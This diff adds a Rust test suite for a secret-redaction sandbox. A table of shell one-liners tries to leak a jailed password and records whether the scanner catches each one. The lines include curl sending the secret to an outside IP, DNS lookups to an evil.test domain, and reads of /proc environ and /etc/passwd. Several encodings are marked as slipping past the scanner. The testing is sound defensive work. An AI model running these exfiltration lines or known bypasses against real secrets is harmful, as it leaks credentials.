@@ -1,0 +1,206 @@
+//! A corpus of attempts to get a value out of an action, each with what becomes of it. docs/nl-attacks.md lists them
+//! as they are here; `KEYLESS_BLESS=1` writes its table anew.
+
+use std::{fmt::Write, fs, path::Path};
+
+use serde_json::{Value, json};
+
+use super::{BOXED, submit};
+use crate::world::World;
+
+/// What becomes of an attempt on a value that is in the jail.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Fate {
+    /// It is taken out, and the log has an incident.
+    Found,
+    /// There is nothing to be had.
+    Nothing,
+    /// It gets past the scanner: what the program wrote is not the value in any form that is looked for.
+    Passes,
+}
+use Fate::{Found, Nothing, Passes};
+
+/// What is tried, how, and its fate. `$V` is the value.
+const ATTEMPTS: &[(&str, &str, Fate)] = &[
+    ("as it is", "echo $V", Found),
+    ("on standard error", "echo $V >&2", Found),
+    (
+        "half on each stream",
+        "printf %s ${V%????????????????????}; printf %s ${V#${V%????????????????????}} >&2",
+        Found,
+    ),
+    ("in an error text of a program", "ls /$V", Found),
+    ("as the trace of a shell", "set -x; : $V", Found),
+    ("as a file's name", "touch /tmp/$V; ls /tmp", Found),
+    ("base64, wrapped", "printf %s $V | base64 -w 8", Found),
+    ("base64, at another alignment", "printf %s ab$V | base64", Found),
+    ("base64 of base64", "printf %s $V | base64 | base64", Found),
+    ("base64 of hex", "printf %s $V | od -An -v -tx1 | tr -d ' \\n' | base64", Found),
+    ("base32", "printf %s $V | base32", Found),
+    ("hex with blanks", "printf %s $V | od -An -v -tx1", Found),
+    ("hex in words", "printf %s $V | od -An -v -x", Found),
+    ("percent escapes", "printf %s $V | od -An -v -tx1 | tr -d '\\n' | tr ' ' %", Found),
+    ("escapes of C", "printf %s $V | od -An -v -tx1 | tr -d '\\n' | sed 's/ /\\\\x/g'", Found),
+    (
+        "escapes of HTML",
+        "printf %s $V | od -An -v -tu1 | tr -s ' \\n' ' ' | sed 's/ \\([0-9]*\\)/\\&#\\1;/g'",
+        Found,
+    ),
+    ("UTF-16", "printf %s $V | iconv -t UTF-16LE", Found),
+    ("reversed", "echo $V | rev", Found),
+    ("rot13", "echo $V | tr a-zA-Z n-za-mN-ZA-M", Found),
+    ("another case", "echo $V | tr a-z A-Z", Found),
+    ("a character a line", "printf %s $V | fold -w 1", Found),
+    ("coloured", "printf %s $V | sed 's/./\\x1b[31m&/g'", Found),
+    (
+        "cut by a title of the terminal",
+        "printf '%s\\033]0;t\\007%s' ${V%????????????????????} ${V#${V%????????????????????}}",
+        Found,
+    ),
+    ("behind a title's introducer", "printf '\\033]0;%s\\007' $V", Found),
+    ("with NUL between", "printf %s $V | sed 's/./&\\x00/g'", Found),
+    ("three fifths of it", "printf %s $V | cut -c1-30", Found),
+    (
+        "from the environment of a program that it starts",
+        "sh -c 'env; cat /proc/self/environ' | grep -c \"$V\"",
+        Nothing,
+    ),
+    (
+        "from what a program that it starts can see of others",
+        "env -i sh -c 'cat /proc/*/environ'",
+        Found,
+    ),
+    (
+        "from the next action's files",
+        "echo $V > /tmp/left; echo $V > /dev/shm/left 2>/dev/null; true",
+        Nothing,
+    ),
+    (
+        "as a core dump",
+        "ulimit -c unlimited 2>/dev/null; ulimit -c; cat /proc/self/coredump_filter; sh -c 'kill -SEGV $$'; ls /tmp",
+        Nothing,
+    ),
+    ("by looking into another process", "grep -E 'NoNewPrivs|CapEff' /proc/self/status", Nothing),
+    ("by a process that stays", "(setsid sleep 300 &) ; true", Nothing),
+    ("over the network", "curl -sS -m 3 http://203.0.113.7/$V >/dev/null 2>&1 || true", Nothing),
+    ("as a name that is looked up", "getent hosts $V.evil.test || true", Nothing),
+    ("compressed", "printf %s $V | gzip | base64", Passes),
+    ("a few characters per action", "printf %s $V | cut -c8-12", Passes),
+    ("every other character", "printf %s $V | sed 's/\\(.\\)./\\1/g'", Passes),
+    ("another alphabet", "printf %s $V | tr a-f0-9 g-v", Passes),
+    ("numbers of the characters", "printf %s $V | od -An -v -tu1", Passes),
+    ("as an exit status", "exit $(printf %d \"'${V#canary_}\")", Passes),
+];
+
+fn attempt(reference: &str, script: &str) -> Value {
+    json!({ "type": "exec", "template": format!("V={{{{nl:{reference}}}}}\n{script}") })
+}
+
+#[test]
+fn each_attempt_on_a_value_in_a_jail_has_its_known_fate() {
+    let world = World::with_store();
+    world.add(BOXED, &[]).ok();
+    let actions: Vec<Value> =
+        ATTEMPTS.iter().map(|(_, script, _)| attempt("db/PASSWORD", script)).collect();
+    let mut responses = Vec::new();
+    for some in actions.chunks(20) {
+        responses.extend(submit(&world, some));
+    }
+    for ((name, _, fate), response) in ATTEMPTS.iter().zip(&responses) {
+        let found = response["redacted"] == json!(true);
+        assert_eq!(found, *fate == Found, "{name}: {response}");
+        assert_ne!(response["result"], json!(null), "{name}: {response}");
+    }
+    let result = |name: &str| {
+        let at = ATTEMPTS.iter().position(|(known, ..)| *known == name).unwrap();
+        responses[at]["result"]["stdout"].as_str().unwrap().to_owned()
+    };
+    assert_eq!(result("from the environment of a program that it starts"), "0\n");
+    assert!(result("as a core dump").starts_with("0\n00000000\n"), "{}", result("as a core dump"));
+    let confined = result("by looking into another process");
+    assert!(confined.contains("NoNewPrivs:\t1"), "{confined}");
+    assert!(confined.contains("CapEff:\t0000000000000000"), "{confined}");
+    // The value, taken apart by hand: these are what docs/nl-attacks.md admits.
+    let value = world.canary.value();
+    assert_eq!(result("a few characters per action").trim_end(), &value[7..12]);
+    let status = responses.last().unwrap()["result"]["exit_code"].as_u64().unwrap();
+    assert_eq!(status, u64::from(value.as_bytes()["canary_".len()]));
+}
+
+#[test]
+fn what_one_action_leaves_the_next_does_not_find() {
+    let world = World::with_store();
+    world.add(BOXED, &[]).ok();
+    let responses = submit(
+        &world,
+        &[
+            attempt(
+                "db/PASSWORD",
+                "echo $V > /tmp/left; ln -s /etc/passwd /tmp/nl-secure; echo $V > /dev/shm/left; (setsid sleep 300 &); true",
+            ),
+            json!({ "type": "exec", "template": "ls -A /tmp /dev/shm; ps -e 2>/dev/null | grep -c sleep; ls /proc | grep -c '^[0-9]'" }),
+            json!({ "type": "template", "template_content": "{{nl:db/PASSWORD}}", "output_path": "/tmp/nl-secure/a" }),
+            json!({ "type": "exec", "template": "ls -l /tmp/nl-secure/a | cut -c1-10; wc -c < /etc/passwd > /dev/null" }),
+        ],
+    );
+    let left = responses[1]["result"]["stdout"].as_str().unwrap();
+    assert!(!left.contains("left") && !left.contains("nl-secure"), "{left}");
+    assert_eq!(responses[3]["result"]["stdout"], "-rw-------\n", "{}", responses[3]);
+}
+
+#[test]
+fn a_bound_value_is_in_no_attempt() {
+    let world = World::with_token();
+    let actions: Vec<Value> =
+        ATTEMPTS.iter().take(19).map(|(_, script, _)| attempt("api/TOKEN", script)).collect();
+    // Nothing is taken out, since nothing is there; that no form of it is anywhere, the world looks for itself.
+    for response in submit(&world, &actions) {
+        assert_eq!(response["redacted"], json!(false), "{response}");
+    }
+}
+
+#[test]
+fn a_placeholder_in_a_value_means_nothing() {
+    let world = World::with_store();
+    world.add(BOXED, &[]).ok();
+    let add = ["secret", "add", "team/db/nested", "--value-stdin", "--allow-weak"];
+    world.keyless(&add).stdin("{{nl:db/PASSWORD}} and more of it").run().ok();
+    let responses = submit(
+        &world,
+        &[
+            attempt("db/NESTED", "printf %s \"$V\" | wc -c"),
+            json!({ "type": "template", "template_content": "{{nl:db/NESTED}}", "output_path": "a" }),
+            json!({ "type": "exec", "template": "wc -c < /tmp/nl-secure/a" }),
+        ],
+    );
+    assert_eq!(responses[0]["result"]["stdout"], "33\n", "{}", responses[0]);
+    assert_eq!(responses[1]["result"]["resolved_count"], 1);
+    assert_eq!(responses[2]["result"]["stdout"], "33\n", "{}", responses[2]);
+}
+
+#[test]
+fn the_document_lists_every_attempt() {
+    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/nl-attacks.md");
+    let written = fs::read_to_string(&file).unwrap();
+    let (head, rest) = written.split_once("| what is tried |").unwrap();
+    let (_, tail) = rest.split_once("\n\n").unwrap_or_default();
+    let mut table = "| what is tried | how | what becomes of it |\n|---|---|---|\n".to_owned();
+    for (name, script, fate) in ATTEMPTS {
+        let fate = match fate {
+            Found => "found, taken out",
+            Nothing => "nothing to be had",
+            Passes => "**gets past**",
+        };
+        let script = script.replace('|', "\\|");
+        writeln!(table, "| {name} | `{script}` | {fate} |").unwrap();
+    }
+    let expected = format!("{head}{table}\n{tail}");
+    let blessed = std::env::var_os("KEYLESS_BLESS").is_some();
+    if blessed {
+        fs::write(&file, &expected).unwrap();
+    }
+    assert!(
+        blessed || expected == written,
+        "docs/nl-attacks.md is not as the corpus: KEYLESS_BLESS=1"
+    );
+}
